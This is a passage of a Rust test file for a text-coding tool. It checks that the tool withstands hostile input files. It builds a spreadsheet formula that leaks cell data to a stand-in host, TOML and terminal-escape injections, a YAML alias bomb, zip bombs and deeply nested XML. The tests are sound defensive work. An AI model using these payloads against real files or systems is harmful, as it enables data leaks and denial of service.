//! Files from strangers (issue 31): dictionaries, documents, tables and projects made to inject
//! into what qualcode writes, or to crash it or exhaust its memory or time from a small file.
//! Every hostile file is generated here, small (a bomb is built at test time); each test
//! failed with the code before its fix.
#![cfg(unix)]

mod common;

use common::*;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

const TRUST: &str = r#"
[[codes]]
id = "trust"
label = '=HYPERLINK("http://x.test/?leak="&A1, "open")'
[[codes.rules]]
terms = ["trust"]
"#;

fn write(path: &Path, bytes: impl AsRef<[u8]>) -> PathBuf {
    if let Some(parent) = path.parent() {
        std::fs::create_dir_all(parent).expect("mkdir");
    }
    std::fs::write(path, bytes).expect("write");
    path.to_path_buf()
}

/// What a finished child did, and the most memory it held (its peak resident set).
struct Finished {
    code: i32,
    stdout: Vec<u8>,
    stderr: String,
    peak_mb: f64,
    seconds: f64,
}

/// Names, in a copy of this test binary started by [`measured`], the folder that says what to
/// run: that copy runs [`measuring_process`] alone, which runs qualcode.
const MEASURE: &str = "QUALCODE_STRANGERS_MEASURE";

/// Runs qualcode with `args` (and `env`) from `dir`, killed if it runs past `limit`.
///
/// Its peak memory is what wait4(2) reports for it, and Linux counts in a child's peak the
/// peak of the process it was started from (the memory it had when it called exec): started
/// from this test process, which holds the tables other tests read at the same time, qualcode
/// would seem to take hundreds of MB it never took. So it is started from a fresh copy of this
/// binary (a few MB), which writes what it saw into files.
fn measured(dir: &Path, args: &[&str], env: &[(&str, &str)], limit: Duration) -> Finished {
    let spool = tempfile::tempdir().expect("tempdir");
    let what = serde_json::json!({
        "args": args,
        "env": env,
        "dir": dir,
        "limit": limit.as_secs_f64(),
    });
    std::fs::write(spool.path().join("what.json"), what.to_string()).expect("write");
    let started = Instant::now();
    let status = Command::new(std::env::current_exe().expect("test binary"))
        .args([
            "--exact",
            "measuring_process",
            "--test-threads",
            "1",
            "--quiet",
        ])
        .env(MEASURE, spool.path())
        .stdout(Stdio::null())
        .status()
        .expect("run the measuring process");
    let seconds = started.elapsed().as_secs_f64();
    assert!(status.success(), "the measuring process failed: {status}");
    let read = |name: &str| std::fs::read(spool.path().join(name)).expect(name);
    let report = String::from_utf8(read("finished")).expect("utf-8");
    let (killed, code, peak_kb) = match report.split(' ').collect::<Vec<_>>()[..] {
        [killed, code, peak] => (
            killed == "killed",
            code.parse::<i32>().expect("code"),
            peak.parse::<f64>().expect("peak"),
        ),
        _ => panic!("{report}"),
    };
    assert!(!killed, "qualcode {args:?} ran past {limit:?}");
    Finished {
        code,
        stdout: read("stdout"),
        stderr: String::from_utf8_lossy(&read("stderr")).into_owned(),
        peak_mb: peak_kb / 1024.0,
        seconds,
    }
}

/// Not a test: the process [`measured`] starts qualcode from (in a copy of this binary, with
/// [`MEASURE`] set; without it, it does nothing). qualcode's output goes to files, and its
/// exit, its peak resident set (from wait4(2)) and whether it was killed after its time limit
/// to the file `finished`.
#[test]
#[allow(clippy::zombie_processes)]
fn measuring_process() {
    let Some(spool) = std::env::var_os(MEASURE).map(PathBuf::from) else {
        return;
    };
    let what: serde_json::Value =
        serde_json::from_slice(&std::fs::read(spool.join("what.json")).expect("read"))
            .expect("json");
    let texts = |v: &serde_json::Value| -> Vec<String> {
        v.as_array()
            .expect("list")
            .iter()
            .map(|t| t.as_str().expect("text").to_string())
            .collect()
    };
    let mut command = Command::new(env!("CARGO_BIN_EXE_qualcode"));
    command
        .args(texts(&what["args"]))
        .current_dir(what["dir"].as_str().expect("dir"))
        .stdout(std::fs::File::create(spool.join("stdout")).expect("create"))
        .stderr(std::fs::File::create(spool.join("stderr")).expect("create"));
    for pair in what["env"].as_array().expect("env") {
        let pair = texts(pair);
        command.env(&pair[0], &pair[1]);
    }
    let limit = Duration::from_secs_f64(what["limit"].as_f64().expect("limit"));
    let child = command.spawn().expect("run qualcode");
    let pid = child.id() as libc::pid_t;
    let watchdog = std::thread::spawn(move || {
        let mut waited = Duration::ZERO;
        while waited < limit {
            std::thread::sleep(Duration::from_millis(100));
            waited += Duration::from_millis(100);
            // SAFETY: signal 0 only checks that the process exists.
            if unsafe { libc::kill(pid, 0) } != 0 {
                return false;
            }
        }
        // SAFETY: the child is not reaped before wait4 below returns, so the id is its.
        unsafe { libc::kill(pid, libc::SIGKILL) };
        true
    });
    let mut status = 0;
    // SAFETY: rusage is written by wait4 for the child `pid`.
    let mut usage: libc::rusage = unsafe { std::mem::zeroed() };
    let reaped = unsafe { libc::wait4(pid, &mut status, 0, &mut usage) };
    assert_eq!(reaped, pid, "wait4");
    let killed = watchdog.join().expect("watchdog");
    let code = if libc::WIFEXITED(status) {
        libc::WEXITSTATUS(status)
    } else {
        -libc::WTERMSIG(status)
    };
    let killed = if killed { "killed" } else { "finished" };
    let report = format!("{killed} {code} {}", usage.ru_maxrss);
    std::fs::write(spool.join("finished"), report).expect("write");
}

/// `qualcode run --corpus CORPUS --codebook CODEBOOK --out o` from `dir`, [`measured`].
fn coded(
    dir: &Path,
    corpus: &str,
    codebook: &str,
    env: &[(&str, &str)],
    limit: Duration,
) -> Finished {
    let args = [
        "run",
        "--corpus",
        corpus,
        "--codebook",
        codebook,
        "--out",
        "o",
    ];
    measured(dir, &args, env, limit)
}

fn csv_rows(path: &Path) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_path(path)
        .expect("csv");
    reader
        .records()
        .map(|r| r.expect("row").iter().map(String::from).collect())
        .collect()
}

/// A zip archive of `(name, bytes)` parts, deflated.
fn zip_of(path: &Path, parts: &[(&str, &[u8])]) {
    let mut zip = zip::ZipWriter::new(std::fs::File::create(path).expect("create"));
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for (name, bytes) in parts {
        zip.start_file(*name, options).expect("start part");
        zip.write_all(bytes).expect("write part");
    }
    zip.finish().expect("finish zip");
}

/// A zip archive of one part: `head`, `filler` `times` over, `tail`, written as a stream (a
/// part of hundreds of MB is never in memory).
fn zip_bomb(path: &Path, name: &str, head: &str, filler: &str, times: usize, tail: &str) {
    let mut zip = zip::ZipWriter::new(std::fs::File::create(path).expect("create"));
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .large_file(true);
    zip.start_file(name, options).expect("start part");
    zip.write_all(head.as_bytes()).expect("write");
    let chunk = filler.repeat(1 << 16);
    for _ in 0..times >> 16 {
        zip.write_all(chunk.as_bytes()).expect("write");
    }
    zip.write_all(tail.as_bytes()).expect("write");
    zip.finish().expect("finish zip");
}

const W: &str = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";

fn docx_xml(body: &str) -> String {
    format!(
        "<?xml version=\"1.0\"?><w:document xmlns:w=\"{W}\"><w:body>{body}</w:body></w:document>"
    )
}

fn odt_xml(body: &str) -> String {
    format!(
        "<?xml version=\"1.0\"?><office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\"><office:body><office:text>{body}</office:text></office:body></office:document-content>"
    )
}

fn document_statuses(out: &Path) -> Vec<(String, String, String)> {
    let documents = table(out, "documents");
    let reasons: Vec<String> = documents
        .column("reason")
        .expect("reason")
        .str()
        .expect("text")
        .iter()
        .map(|r| r.unwrap_or_default().to_string())
        .collect();
    strings(&documents, "document")
        .into_iter()
        .zip(strings(&documents, "status"))
        .zip(reasons)
        .map(|((d, s), r)| (d, s, r))
        .collect()
}

// ---------------------------------------------------------------------------------------------
// Injection

#[test]
fn an_imported_name_with_line_breaks_stays_a_name() {
    let dir = tempfile::tempdir().expect("tempdir");
    let payload = "evil\n[[codes]]\nid = \"all\"\n[[codes.rules]]\nregex = '\\w+'\n# ";
    // YAML: a code without patterns is noted in a comment, name and all (6 lines made a live
    // code that coded every unit). CSV: the same through the note on an empty term.
    let yaml_name = payload
        .replace('\\', "\\\\")
        .replace('\n', "\\n")
        .replace('"', "\\\"");
    write(
        &dir.path().join("d.yml"),
        format!("\"{yaml_name}\": ~\ntrust: [trust]\n"),
    );
    let csv_name = payload.replace('"', "\"\"");
    write(
        &dir.path().join("d.csv"),
        format!("code,term\n\"{csv_name}\",\ntrust,trust\n"),
    );
    for file in ["d.yml", "d.csv"] {
        let out = format!("{file}.toml");
        let done = measured(
            dir.path(),
            &["codebook", "import", file, "--out", &out],
            &[],
            Duration::from_secs(60),
        );
        assert_eq!(done.code, 0, "{file}: {}", done.stderr);
        assert!(done.stderr.contains("imported 2 codes"), "{}", done.stderr);
        // The warning shows the name's line breaks rather than printing them.
        assert!(done.stderr.contains("evil\\n[[codes]]"), "{}", done.stderr);
        let text = std::fs::read_to_string(dir.path().join(&out)).expect("codebook");
        let parsed: toml::Table = toml::from_str(&text).unwrap_or_else(|e| panic!("{e}\n{text}"));
        let codes = parsed["codes"].as_array().expect("codes");
        let ids: Vec<&str> = codes
            .iter()
            .map(|c| c["id"].as_str().expect("id"))
            .collect();
        assert_eq!(
            ids,
            ["evil_codes_id_all_codes_rules_regex_w", "trust"],
            "{text}"
        );
        assert_eq!(
            codes[0].get("label").and_then(|l| l.as_str()),
            Some(payload.trim_end())
        );
        assert!(codes[0].get("rules").is_none(), "{text}");
        // The codebook codes only what the dictionary says.
        write(
            &dir.path().join("c/a.txt"),
            "Words and more words.\n\nWe trust.\n",
        );
        let done = coded(dir.path(), "c", &out, &[], Duration::from_secs(60));
        assert_eq!(done.code, 0, "{}", done.stderr);
        let codings = table(&dir.path().join("o"), "codings");
        assert_eq!(strings(&codings, "code"), ["trust"]);
    }
}

#[test]
fn csv_cells_that_a_spreadsheet_would_run_are_text() {
    let dir = tempfile::tempdir().expect("tempdir");
    let formula = "=HYPERLINK(\"http://x.test/?leak=\"&A1, \"open\")";
    write(
        &dir.path().join("c/a.txt"),
        format!(
            "{formula} we trust -1+1 @SUM(A1) and more words here.\n\n+trust them, we said, and meant it.\n"
        ),
    );
    let codebook = write(&dir.path().join("cb.toml"), TRUST);
    let cb = codebook.to_str().expect("utf-8");
    let dangerous = |cell: &str| cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    // kwic --out: the left context starts with the formula, the unit with `+`.
    let done = measured(
        dir.path(),
        &[
            "kwic",
            "trust",
            "--corpus",
            "c",
            "--codebook",
            cb,
            "--out",
            "k.csv",
        ],
        &[],
        Duration::from_secs(60),
    );
    assert_eq!(done.code, 0, "{}", done.stderr);
    let rows = csv_rows(&dir.path().join("k.csv"));
    assert_eq!(rows.len(), 3, "{rows:?}");
    let left = rows[0].iter().position(|h| h == "left").expect("left");
    let right = rows[0].iter().position(|h| h == "right").expect("right");
    assert!(rows[1][left].starts_with("'=HYPERLINK(\"http"), "{rows:?}");
    assert_eq!(rows[1][right], " -1+1 @SUM(A1) and more words here.");
    assert_eq!(rows[2][left].trim(), "'+");
    for row in &rows {
        for cell in row {
            assert!(!dangerous(cell), "{cell:?} in {rows:?}");
        }
    }
    // The raw file quotes text cells and leaves numbers bare.
    let raw = std::fs::read_to_string(dir.path().join("k.csv")).expect("csv");
    assert!(raw.contains(",\"'=HYPERLINK(\"\"http"), "{raw}");
    // similar --out: the unit's text starts with the formula.
    let done = measured(
        dir.path(),
        &[
            "similar",
            "trust",
            "--corpus",
            "c",
            "--codebook",
            cb,
            "--out",
            "s.csv",
        ],
        &[],
        Duration::from_secs(60),
    );
    assert_eq!(done.code, 0, "{}", done.stderr);
    for row in csv_rows(&dir.path().join("s.csv")) {
        for cell in &row {
            assert!(!dangerous(cell), "{cell:?} in {row:?}");
        }
    }
    // export codebook-csv: the label is a formula.
    let done = measured(
        dir.path(),
        &[
            "export",
            "codebook-csv",
            "--codebook",
            cb,
            "--corpus",
            "c",
            "--out",
            "cb.csv",
        ],
        &[],
        Duration::from_secs(60),
    );
    assert_eq!(done.code, 0, "{}", done.stderr);
    let rows = csv_rows(&dir.path().join("cb.csv"));
    assert_eq!(
        rows[1][0],
        "'=HYPERLINK(\"http://x.test/?leak=\"&A1, \"open\")"
    );
}

#[test]
fn control_characters_from_files_are_shown_not_sent_to_the_terminal() {
    let dir = tempfile::tempdir().expect("tempdir");
    // A title-setting OSC, a colour, a bell and a carriage return in the text; an escape in
    // the file names of a coded and of a skipped file.
    let name = "a\u{1b}[2Jb.txt";
    write(
        &dir.path().join("c").join(name),
        "We trust \u{1b}]0;PWNED\u{7} the \u{1b}[31mred\u{1b}[0m people, all of them.\n",
    );
    write(&dir.path().join("c/x\u{1b}[1m.docx"), b"not a zip");
    let codebook = write(&dir.path().join("cb.toml"), TRUST);
    let cb = codebook.to_str().expect("utf-8");
    let runs: [&[&str]; 3] = [
        &["kwic", "trust", "--corpus", "c", "--codebook", cb],
        &["explain", name, "0", "--corpus", "c", "--codebook", cb],
        &["run", "--corpus", "c", "--codebook", cb, "--out", "o"],
    ];
    for args in runs {
        let done = measured(dir.path(), args, &[], Duration::from_secs(60));
        assert!(
            done.code == 0 || done.code == 1,
            "{args:?}: {}",
            done.stderr
        );
        for (what, bytes) in [
            ("stdout", &done.stdout),
            ("stderr", &done.stderr.clone().into_bytes()),
        ] {
            for c in [0x1b, 0x07, b'\r'] {
                assert!(
                    !bytes.contains(&c),
                    "{args:?} {what} holds byte {c:#x}: {:?}",
                    String::from_utf8_lossy(bytes)
                );
            }
        }
        let all = format!("{}{}", String::from_utf8_lossy(&done.stdout), done.stderr);
        let shown = if args[0] == "run" {
            "skipped c/x\\u{1b}[1m.docx"
        } else {
            "a\\u{1b}[2Jb.txt"
        };
        assert!(all.contains(shown), "{args:?}: {all}");
    }
    let done = measured(dir.path(), runs[0], &[], Duration::from_secs(60));
    let stdout = String::from_utf8_lossy(&done.stdout);
    assert!(
        stdout.contains("\\u{1b}]0;PWNED\\u{7} the \\u{1b}[31mred\\u{1b}[0m people"),
        "{stdout}"
    );
}

// ---------------------------------------------------------------------------------------------
// Crashes and memory exhaustion from small files

#[test]
fn a_yaml_alias_bomb_is_refused_before_it_is_built() {
    let dir = tempfile::tempdir().expect("tempdir");
    // A billion entries from 500 bytes (aborted after 3.8 GB).
    let mut bomb = String::from("a: &a [lol,lol,lol,lol,lol,lol,lol,lol,lol,lol]\n");
    for (name, before) in "bcdefghij".chars().zip("abcdefghi".chars()) {
        let aliases = vec![format!("*{before}"); 10].join(",");
        bomb.push_str(&format!("{name}: &{name} [{aliases}]\n"));
    }
    write(&dir.path().join("bomb.yml"), &bomb);
    let done = measured(
        dir.path(),
        &["codebook", "import", "bomb.yml"],
        &[],
        Duration::from_secs(60),
    );
    assert_eq!(done.code, 2, "{}", done.stderr);
    assert!(done.stderr.contains("an alias bomb?"), "{}", done.stderr);
    assert!(done.peak_mb < 200.0, "{} MB", done.peak_mb);
}

#[test]
fn archive_parts_that_unpack_past_their_share_are_skipped_unread() {
    let dir = tempfile::tempdir().expect("tempdir");
    let corpus = dir.path().join("c");
    std::fs::create_dir_all(&corpus).expect("mkdir");
    // 300 MB of text in document.xml and content.xml, packed to under a MB each: under the
    // old 1 GB cap, and its tree and tables took gigabytes and minutes.
    let (head, tail) = docx_xml("<w:p><w:r><w:t>|</w:t></w:r></w:p>")
        .split_once('|')
        .map(|(h, t)| (h.to_string(), t.to_string()))
        .expect("split");
    zip_bomb(
        &corpus.join("bomb.docx"),
        "word/document.xml",
        &head,
        "trust ",
        50 << 20,
        &tail,
    );
    let (head, tail) = odt_xml("<text:p>|</text:p>")
        .split_once('|')
        .map(|(h, t)| (h.to_string(), t.to_string()))
        .expect("split");
    zip_bomb(
        &corpus.join("bomb.odt"),
        "content.xml",
        &head,
        "trust ",
        50 << 20,
        &tail,
    );
    let packed = std::fs::metadata(corpus.join("bomb.docx"))
        .expect("size")
        .len();
    assert!(packed < 3 << 20, "{packed} bytes");
    write(&corpus.join("ok.txt"), "We trust them.\n");
    let codebook = write(&dir.path().join("cb.toml"), TRUST);
    let done = coded(
        dir.path(),
        "c",
        codebook.to_str().expect("utf-8"),
        &[],
        Duration::from_secs(120),
    );
    assert_eq!(done.code, 1, "{}", done.stderr);
    let statuses = document_statuses(&dir.path().join("o"));
    assert_eq!(statuses.len(), 3);
    for (document, status, reason) in &statuses[..2] {
        assert_eq!(status, "skipped", "{document}");
        assert!(
            reason.contains(
                "would unpack to 301 MB, more than this file may (a part may unpack to 100 times"
            ),
            "{document}: {reason}"
        );
    }
    assert_eq!(statuses[2].1, "coded");
    assert!(done.peak_mb < 300.0, "{} MB", done.peak_mb);
}

#[test]
fn xml_nested_past_the_limit_is_refused_not_a_stack_overflow() {
    let dir = tempfile::tempdir().expect("tempdir");
    let corpus = dir.path().join("c");
    std::fs::create_dir_all(&corpus).expect("mkdir");
    let n = 10_000;
    // Inserted-text wrappers in a .docx and sections in an .odt, each a nesting the reader
    // follows; 1.5 KB files that overflowed the stack and killed the run.
    let docx = docx_xml(&format!(
        "{}<w:p><w:r><w:t>We trust.</w:t></w:r></w:p>{}",
        "<w:ins>".repeat(n),
        "</w:ins>".repeat(n)
    ));
    zip_of(
        &corpus.join("deep.docx"),
        &[("word/document.xml", docx.as_bytes())],
    );
    let odt = odt_xml(&format!(
        "{}<text:p>We trust.</text:p>{}",
        "<text:section>".repeat(n),
        "</text:section>".repeat(n)
    ));
    zip_of(&corpus.join("deep.odt"), &[("content.xml", odt.as_bytes())]);
    write(&corpus.join("ok.txt"), "We trust them.\n");
    let codebook = write(&dir.path().join("cb.toml"), TRUST);
    let cb = codebook.to_str().expect("utf-8");
    let done = coded(dir.path(), "c", cb, &[], Duration::from_secs(60));
    assert_eq!(done.code, 1, "{}", done.stderr);
    let statuses = document_statuses(&dir.path().join("o"));
    assert_eq!(statuses[0].0, "deep.docx");
    assert_eq!(statuses[1].0, "deep.odt");
    for (document, status, reason) in &statuses[..2] {
        assert_eq!(status, "skipped", "{document}");
        assert!(
            reason.contains("nests elements more than 256 deep"),
            "{document}: {reason}"
        );
    }
    assert_eq!(statuses[2].1, "coded");

    // 50,000-deep codes in a .qdc (import) and a .qdpx (agree) killed both.
    let codes = format!(
        "{}{}",
        (0..50_000)
            .map(|i| format!("<Code guid=\"g{i}\" name=\"c{i}\" isCodable=\"true\">"))
            .collect::<String>(),
        "</Code>".repeat(50_000)
    );
    let qdc = format!("<?xml version=\"1.0\"?><CodeBook xmlns=\"urn:QDA-XML:codebook:1.0\"><Codes>{codes}</Codes></CodeBook>");
    write(&dir.path().join("deep.qdc"), &qdc);
    let done = measured(
        dir.path(),
        &["codebook", "import", "deep.qdc"],
        &[],
        Duration::from_secs(60),
    );
    assert_eq!(done.code, 2, "{}", done.stderr);
    assert!(
        done.stderr.contains("nests elements more than 256 deep"),
        "{}",
        done.stderr
    );
    let qde = format!("<?xml version=\"1.0\"?><Project xmlns=\"urn:QDA-XML:project:1.0\" name=\"p\"><CodeBook><Codes>{codes}</Codes></CodeBook></Project>");
    zip_of(
        &dir.path().join("deep.qdpx"),
        &[("project.qde", qde.as_bytes())],
    );
    let done = measured(
        dir.path(),
        &[
            "agree",
            "--gold",
            "deep.qdpx",
            "--corpus",
            "c",
            "--codebook",
            cb,
            "--out",
            "a",
        ],
        &[],
        Duration::from_secs(60),
    );
    assert_eq!(done.code, 2, "{}", done.stderr);
    assert!(
        done.stderr.contains("nests elements more than 256 deep"),
        "{}",
        done.stderr
    );
}

#[test]
fn html_nested_100000_deep_is_skipped_in_bounded_time() {
    let dir = tempfile::tempdir().expect("tempdir");
    let n = 100_000;
    write(
        &dir.path().join("c/deep.html"),
        format!(
            "<html><body>{}<p>We trust them.</p>{}</body></html>",
            "<div>".repeat(n),
            "</div>".repeat(n)
        ),
    );
    write(&dir.path().join("c/ok.txt"), "We trust them.\n");
    let codebook = write(&dir.path().join("cb.toml"), TRUST);
    let done = coded(
        dir.path(),
        "c",
        codebook.to_str().expect("utf-8"),
        &[],
        Duration::from_secs(60),
    );
    assert_eq!(done.code, 1, "{}", done.stderr);
    // Over 30 s before (the parser's scope checks are quadratic in the depth).
    assert!(done.seconds < 10.0, "{} s", done.seconds);
    let statuses = document_statuses(&dir.path().join("o"));
    assert_eq!(statuses[0].1, "skipped");
    assert!(
        statuses[0].2.contains("nests elements more than 512 deep"),
        "{:?}",
        statuses[0]
    );
    assert_eq!(statuses[1].1, "coded");
}

#[test]
fn a_pdftotext_that_never_returns_is_stopped_and_the_file_skipped() {
    let dir = tempfile::tempdir().expect("tempdir");
    // A pdftotext that never reads its input nor ends (and starts a child that would hold
    // its output open), and a PDF larger than a pipe holds, so that writing it blocks.
    let bin = dir.path().join("bin");
    let fake = write(&bin.join("pdftotext"), "#!/bin/sh\nsleep 300\n");
    std::fs::set_permissions(&fake, std::os::unix::fs::PermissionsExt::from_mode(0o755))
        .expect("chmod");
    let mut pdf = b"%PDF-1.4\n".to_vec();
    pdf.extend(std::iter::repeat_n(b'x', 1 << 20));
    write(&dir.path().join("c/stuck.pdf"), &pdf);
    write(&dir.path().join("c/ok.txt"), "We trust them.\n");
    let codebook = write(&dir.path().join("cb.toml"), TRUST);
    let path = format!(
        "{}:{}",
        bin.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let done = coded(
        dir.path(),
        "c",
        codebook.to_str().expect("utf-8"),
        &[("PATH", &path), ("QUALCODE_PDFTOTEXT_TIMEOUT", "1")],
        Duration::from_secs(60),
    );
    assert_eq!(done.code, 1, "{}", done.stderr);
    assert!(done.seconds < 20.0, "{} s", done.seconds);
    let statuses = document_statuses(&dir.path().join("o"));
    assert_eq!(statuses[0].0, "ok.txt");
    assert_eq!(statuses[0].1, "coded");
    assert_eq!(statuses[1].1, "skipped");
    assert!(
        statuses[1]
            .2
            .starts_with("pdftotext did not finish within 1 s, so it was stopped"),
        "{:?}",
        statuses[1]
    );
}

#[test]
fn columns_named_twice_or_unnamed_twice_are_refused_by_name() {
    let dir = tempfile::tempdir().expect("tempdir");
    let codebook = write(&dir.path().join("cb.toml"), TRUST);
    let cb = codebook.to_str().expect("utf-8");
    // The last `text` column silently won before.
    write(
        &dir.path().join("t.csv"),
        "id,text,text\n1,We trust them.,Nothing here.\n",
    );
    let done = coded(dir.path(), "t.csv", cb, &[], Duration::from_secs(60));
    assert_eq!(done.code, 2, "{}", done.stderr);
    assert!(
        done.stderr.contains("t.csv: columns 2 and 3 are both named \"text\": a table names each of its columns once (its columns: \"id\", \"text\", \"text\")"),
        "{}",
        done.stderr
    );
    // Two empty header cells panicked (an index out of bounds).
    write(&dir.path().join("c/a.txt"), "We trust them.\n");
    write(
        &dir.path().join("m.csv"),
        "document,,,year\na.txt,x,y,2020\n",
    );
    let done = measured(
        dir.path(),
        &[
            "run",
            "--corpus",
            "c",
            "--metadata",
            "m.csv",
            "--codebook",
            cb,
            "--out",
            "o",
        ],
        &[],
        Duration::from_secs(60),
    );
    assert_eq!(done.code, 2, "{}", done.stderr);
    assert!(
        done.stderr
            .contains("m.csv: columns 2 and 3 both have no name"),
        "{}",
        done.stderr
    );
    assert!(!done.stderr.contains("panicked"), "{}", done.stderr);
}

#[test]
fn a_chain_of_a_thousand_codes_is_coded_in_seconds() {
    let dir = tempfile::tempdir().expect("tempdir");
    let n = 1000;
    let codebook: String = (0..n)
        .map(|i| {
            let parent = if i > 0 {
                format!("parent = \"c{}\"\n", i - 1)
            } else {
                String::new()
            };
            format!("[[codes]]\nid = \"c{i}\"\n{parent}[[codes.rules]]\nterms = [\"w{i}\"]\n\n")
        })
        .collect();
    write(&dir.path().join("cb.toml"), codebook);
    let text: String = (0..200)
        .map(|i| format!("We saw w{} and w{} today.\n\n", i * 5, (i * 37) % n))
        .collect();
    write(&dir.path().join("c/a.txt"), text);
    let done = coded(dir.path(), "c", "cb.toml", &[], Duration::from_secs(120));
    assert_eq!(done.code, 0, "{}", done.stderr);
    // Over 120 s before for a corpus like this (an ancestor search per pair of codes).
    assert!(done.seconds < 30.0, "{} s", done.seconds);
    let cooccurrence = table(&dir.path().join("o"), "cooccurrence");
    let pairs: std::collections::BTreeMap<(String, String), bool> =
        strings(&cooccurrence, "code_a")
            .into_iter()
            .zip(strings(&cooccurrence, "code_b"))
            .zip(bools(&cooccurrence, "nested"))
            .collect();
    assert_eq!(pairs.len(), n * (n - 1));
    // Every pair of a chain is nested, one the other's ancestor.
    assert!(pairs.values().all(|&nested| nested));
}

#[test]
fn report_and_plot_of_thousands_of_codes_show_the_top_codes_and_say_so() {
    let dir = tempfile::tempdir().expect("tempdir");
    let n = 2000;
    // The first 100 codes share the word `common` (so they co-occur); c7 and c11 have units of
    // their own too; the other 1,900 codes have no unit.
    let codebook: String = (0..n)
        .map(|i| {
            let common = if i < 100 { ", \"common\"" } else { "" };
            format!("[[codes]]\nid = \"c{i}\"\n[[codes.rules]]\nterms = [\"w{i}\"{common}]\n\n")
        })
        .collect();
    write(&dir.path().join("cb.toml"), codebook);
    let mut text: String = (0..20)
        .map(|i| format!("A common unit number {i}.\n\n"))
        .collect();
    text.push_str("Only w7 here.\n\nAnd w7 and w11 here.\n\nAn empty-handed unit.\n");
    write(&dir.path().join("c/a.txt"), text);
    let done = coded(dir.path(), "c", "cb.toml", &[], Duration::from_secs(300));
    assert_eq!(done.code, 0, "{}", done.stderr);
    let done = measured(
        dir.path(),
        &["report", "--from", "o", "--out", "r.html"],
        &[],
        Duration::from_secs(300),
    );
    assert_eq!(done.code, 0, "{}", done.stderr);
    let html = std::fs::read_to_string(dir.path().join("r.html")).expect("report");
    assert!(html.len() < 8 << 20, "{} bytes", html.len());
    assert!(
        html.contains("The codebook has 2000 codes: the charts, the matrices and the lists of units show the 50 with the most units, and 1950 are left out of them"),
        "note"
    );
    // The codes with units of their own are among those shown; every code is in the table.
    assert!(html.contains("id=\"code-c7\"") && html.contains("id=\"code-c11\""));
    assert!(html.contains(">c1999</td>"));
    for kind in ["cooccurrence", "frequency", "by-document"] {
        let svg = format!("{kind}.svg");
        let done = measured(
            dir.path(),
            &["plot", kind, "--from", "o", "--out", &svg],
            &[],
            Duration::from_secs(300),
        );
        assert_eq!(done.code, 0, "{kind}: {}", done.stderr);
        assert!(
            done.stderr
                .contains("drew the 50 codes with the most units; 1950 left out"),
            "{}",
            done.stderr
        );
        let svg = std::fs::read_to_string(dir.path().join(&svg)).expect("svg");
        assert!(svg.len() < 2 << 20, "{kind}: {} bytes", svg.len());
        assert!(
            svg.contains("(50 of 2000 codes: those with the most units)"),
            "{kind}"
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Memory of one unit dense with matches

/// `bytes` of text on one line (one unit), a sentence after another, each holding terms of the
/// default codebook's rules and of their `near` partners (a match every 55 bytes or so).
fn dense_unit(bytes: usize) -> String {
    const SENTENCES: [&str; 4] = [
        "The NGO gained the trust of the local government officials.",
        "Mutual trust between the foundation and the bureau grew.",
        "Officials trust the charity and its partners.",
        "They localised the project with the county government.",
    ];
    let mut state: u64 = 0x9E37_79B9_7F4A_7C15;
    let mut text = String::with_capacity(bytes + 64);
    while text.len() < bytes {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        text.push_str(SENTENCES[(state % 4) as usize]);
        text.push(' ');
    }
    text.push('\n');
    text
}

/// The matches a run reports on stderr (`…, 898945 matches in 14.47s -> …`).
fn matches_reported(stderr: &str) -> u64 {
    let at = stderr.rfind(" matches in ").expect("summary line");
    let start = stderr[..at].rfind(' ').map_or(0, |i| i + 1);
    stderr[start..at].parse().expect("match count")
}

#[test]
fn a_unit_dense_with_matches_costs_a_bounded_multiple_of_its_size() {
    let dir = tempfile::tempdir().expect("tempdir");
    let codebook = repo().join("codebook.toml");
    let codebook = codebook.to_str().expect("utf-8 path");
    let size_mb = 16;
    write(&dir.path().join("small/a.txt"), dense_unit(100_000));
    write(&dir.path().join("dense/a.txt"), dense_unit(size_mb << 20));
    let run = |corpus: &str| {
        let out = format!("o-{corpus}");
        let done = measured(
            dir.path(),
            &[
                "run",
                "--corpus",
                corpus,
                "--codebook",
                codebook,
                "--out",
                &out,
            ],
            &[],
            Duration::from_secs(300),
        );
        assert_eq!(done.code, 0, "{}", done.stderr);
        done
    };
    // What a run costs whatever its corpus (threads, the codebook, the writers).
    let base = run("small");
    let dense = run("dense");
    // Dense indeed: every sentence matches (a rule's term or a partner of one).
    let matches = matches_reported(&dense.stderr);
    assert!(matches > 250_000, "{matches} matches");
    // The unit's cost over the base. Measured (2 cores): 14.1 times its size now; 32.1 times
    // with the build before (every match listed three times over, the text copied by polars'
    // dictionary attempt; 1.78–1.90 GB for a 49 MB unit).
    let per_mb = (dense.peak_mb - base.peak_mb) / size_mb as f64;
    eprintln!(
        "a {size_mb} MB dense unit: {:.0} MB peak, {:.0} MB for a small one: {per_mb:.1} times",
        dense.peak_mb, base.peak_mb
    );
    assert!(
        per_mb < 18.0,
        "{:.0} MB peak for a {size_mb} MB unit ({:.0} MB for a small one): {per_mb:.1} times its size",
        dense.peak_mb,
        base.peak_mb
    );
}

// Memory of the workbench commands that read hand coding or every unit

/// A document of about 100 KB: paragraphs of words drawn from a fixed vocabulary (so a larger
/// corpus has no more distinct terms), some with `trust`. The same `n` gives the same text.
fn plain_document(n: usize) -> String {
    const WORDS: [&str; 24] = [
        "officials",
        "county",
        "project",
        "village",
        "school",
        "water",
        "meeting",
        "funding",
        "leader",
        "volunteers",
        "report",
        "partner",
        "training",
        "office",
        "bureau",
        "plan",
        "health",
        "women",
        "farmers",
        "network",
        "budget",
        "visit",
        "approval",
        "staff",
    ];
    let mut state = n as u64 * 2_654_435_761 + 1;
    let mut next = move || {
        state = state
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1);
        (state >> 33) as usize
    };
    let mut text = String::new();
    while text.len() < 100_000 {
        for i in 0..60 {
            if i > 0 {
                text.push(' ');
            }
